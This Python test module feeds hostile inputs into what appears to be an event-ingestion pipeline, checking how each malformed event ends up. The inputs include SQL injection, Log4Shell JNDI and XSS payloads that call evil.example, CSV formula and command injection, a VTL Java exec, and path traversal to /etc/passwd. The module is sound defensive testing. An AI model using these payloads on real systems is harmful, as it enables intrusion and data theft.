"""Hostile texts in every place of an event and in its partition key, and events that are none."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

from tests.events.attacks import VICTIM, End, EventAttack, event


def _with(**changes: Any) -> Callable[[str], str]:
    return lambda token: json.dumps(event(token, **changes))


def _raw(pattern: str) -> Callable[[str], str]:
    """The text of a good event, and in it `pattern` instead of its closing brace."""
    return lambda token: json.dumps(event(token))[:-1] + pattern


HOSTILE_TEXTS: dict[str, str] = {
    "JSON: closes the text and adds a member": 'x","user_id":"admin',
    "JSON: closes the record and adds one": 'x"},{"Data":"eA==","PartitionKey":"k"},{"a":"',
    "JSON: closes everything and names a stream": f'x"}}],"StreamName":"{VICTIM}","Records":[{{"a":"',
    "JSON: escaped quotation marks": '\\",\\"ExplicitHashKey\\":\\"0',
    "JSON: quotation marks as \\u0022": "\\u0022,\\u0022StreamARN\\u0022:\\u0022x",
    "JSON: ends with a backslash": "x\\",
    "JSON: an odd run of backslashes": '\\\\\\\\\\"',
    "VTL: a context variable": "$context.identity.sourceIp ${context.accountId} $!context.apiId",
    "VTL: sets the status": "#set($context.responseOverride.status = 200)",
    "VTL: adds a header": "#set($context.responseOverride.header.X-Evil = 'x')",
    "VTL: reads the body": "$input.body $input.json('$') $input.path('$.records').size()",
    "VTL: loops": "#foreach($i in [1..1000])#foreach($j in [1..1000])x#end#end",
    "VTL: ends the loop": "#end #stop #break ## rest #* comment *# #[[raw]]#",
    "VTL: calls a utility": "$util.base64Decode('YQ==') $util.parseJson('{}').a $util.urlEncode('&')",
    "VTL: reaches for the Java runtime": '$x.getClass().forName("java.lang.Runtime").getRuntime().exec("id")',
    "VTL: evaluates, defines, includes": "#evaluate('x') #define($a)b#end #macro(m)c#end #include('/x')",
    "SQL: drops the table": "'; DROP TABLE web_log_iceberg_db.web_log_iceberg; --",
    "SQL: a condition that is always true": "' OR '1'='1' /*",
    "SQL: a union": '" UNION SELECT * FROM information_schema.tables --',
    "SQL: an escape for LIKE": "100%_\\_''",
    "CSV: a formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "CSV: a command": "=cmd|' /C calc'!A0",
    "CSV: plus, minus and at": "+1+1\t-2+3\t@SUM(A1:A9)",
    "CSV: a new row": 'a,b\r\n"c""d",e\n',
    "HTML: a script": "<script>alert(document.cookie)</script>",
    "HTML: an attribute": "\"><img src=x onerror='fetch(`//evil.example`)'>",
    "URL: a script": "javascript:alert(1)//%0d%0aSet-Cookie:a=b",
    "log: forged lines and terminal codes": "ok\n2026-11-21 ERROR forged \x1b[2J\x1b]0;owned\x07",
    "log: a lookup": "${jndi:ldap://evil.example/a}",
    "path: up and away": "../../../../etc/passwd",
    "path: up and away, encoded twice": "%252e%252e%252f%00",
    "path: another bucket": "s3://another-bucket/web_log_iceberg_db/",
    "text: NUL": "a\x00b",
    "text: all control characters": "".join(map(chr, range(1, 32))) + "\x7f",
    "text: line and paragraph separators": "a\u2028b\u2029c\u0085d",
    "text: turns the direction": "\u202egnp.exe\u202c \u200b\ufeff\u2060",
    "text: beyond the basic plane and combining": "😀𝕏\U0010ffff e\u0301\u0301\u0301 Z\u0351\u036b",
    "text: noncharacters": "\ufdd0\ufffe\uffff",
    "text: empty": "",
    "text: 200,000 characters": "x" * 200_000,
    "text: null as a word": "null",
    "text: the name of the null partition": "__HIVE_DEFAULT_PARTITION__",
}

EVENT_ATTACKS: tuple[EventAttack, ...] = (
    *(EventAttack(f"user_agent: {name}", _with(user_agent=text)) for name, text in HOSTILE_TEXTS.items()),
    # The partition column becomes a path; a long name of a folder is where file systems give up.
    *(
        EventAttack(f"event (partition): {name}", _with(event=text))
        for name, text in HOSTILE_TEXTS.items()
        if name.startswith(("path", "text", "JSON: closes", "SQL: drops")) and len(text) < 1000
    ),
    EventAttack("event (partition): 500 characters", _with(event="e" * 500)),
    EventAttack("event (partition): 1,000 characters", _with(event="e" * 1000), end=End.SET_ASIDE),
    EventAttack("event (partition): slashes and equals signs", _with(event="a=b/c=d//e")),
    EventAttack("event (partition): dots alone", _with(event="..")),
    *(
        EventAttack(f"partition key: {name}", _with(), key=text)
        for name, text in HOSTILE_TEXTS.items()
        if 0 < len(text) <= 256
    ),
    EventAttack("partition key: a hash key of another shard", _with(), key='k","ExplicitHashKey":"0'),
    EventAttack("partition key: 256 characters outside ASCII", _with(), key="é" * 256),
    EventAttack("partition key: 257 characters", _with(), key="k" * 257, end=End.REFUSED),
    EventAttack("partition key: empty", _with(), key="", end=End.REFUSED),
    *(
        EventAttack(
            f"{name}: text", _with(**{name: HOSTILE_TEXTS["JSON: closes the text and adds a member"]})
        )
        for name in ("user_id", "ip", "hostname", "os", "referrer", "uri")
    ),
    EventAttack(
        "members: one that spells a stream", _with(StreamName=VICTIM, StreamARN="arn:x", ShardId="s")
    ),
    EventAttack("members: Firehose's own metadata", _with(metadata={"otfMetadata": {"operation": "delete"}})),
    EventAttack("members: a prototype", _with(**{"__proto__": {"user_id": "x"}, "constructor": 1, "": 2})),
    EventAttack("members: names in another case", _with(USER_ID="admin", Event="x")),
    EventAttack("duplicates: a second user_id", _raw(', "user_id": "second"}')),
    EventAttack("duplicates: a second ip of another type", _raw(', "ip": 5}'), end=End.SET_ASIDE),
    EventAttack("duplicates: the same name, escaped", _raw(', "user\\u005fid": "second"}')),
    EventAttack(
        "numbers: 400 digits", _raw(f', "extra": {"9" * 400}}}'), end=End.SET_ASIDE, alone=End.REFUSED
    ),
    EventAttack(
        "numbers: an exponent beyond all doubles",
        _raw(', "extra": 1e999}'),
        end=End.SET_ASIDE,
        alone=End.REFUSED,
    ),
    EventAttack(
        "numbers: 10,000 digits", _raw(f', "extra": {"9" * 10_000}}}'), end=End.SET_ASIDE, alone=End.REFUSED
    ),
    EventAttack("numbers: many decimals", _raw(f', "extra": 0.{"1" * 5000}}}')),
    EventAttack("numbers: minus zero and tiny", _raw(', "extra": [-0, -0.0, 1e-400, 5E-324]}')),
    EventAttack("nesting: 100 levels in an extra member", _raw(f', "extra": {"[" * 100}{"]" * 100}}}')),
    EventAttack(
        "nesting: 100,000 levels in an extra member",
        _raw(f', "extra": {"[" * 100_000}{"]" * 100_000}}}'),
        end=End.SET_ASIDE,
        alone=End.REFUSED,
    ),
    EventAttack("types: user_id is an object", _with(user_id={"$ne": None}), end=End.SET_ASIDE),
    EventAttack("types: user_id is a list", _with(user_id=["a"]), end=End.SET_ASIDE),
    EventAttack("types: timestamp is SQL", _with(timestamp="now(); --"), end=End.SET_ASIDE),
    EventAttack(
        "types: a year beyond the calendar", _with(timestamp="99999-01-01T00:00:00Z"), end=End.SET_ASIDE
    ),
    EventAttack(
        "surrogates: a lone one, escaped",
        _raw(', "os": "\\ud800"}'),
        end=End.SET_ASIDE,
        alone=End.REFUSED,
    ),
    EventAttack(
        "surrogates: a pair the wrong way round",
        _raw(', "os": "\\udc00\\ud800"}'),
        end=End.SET_ASIDE,
        alone=End.REFUSED,
    ),
)
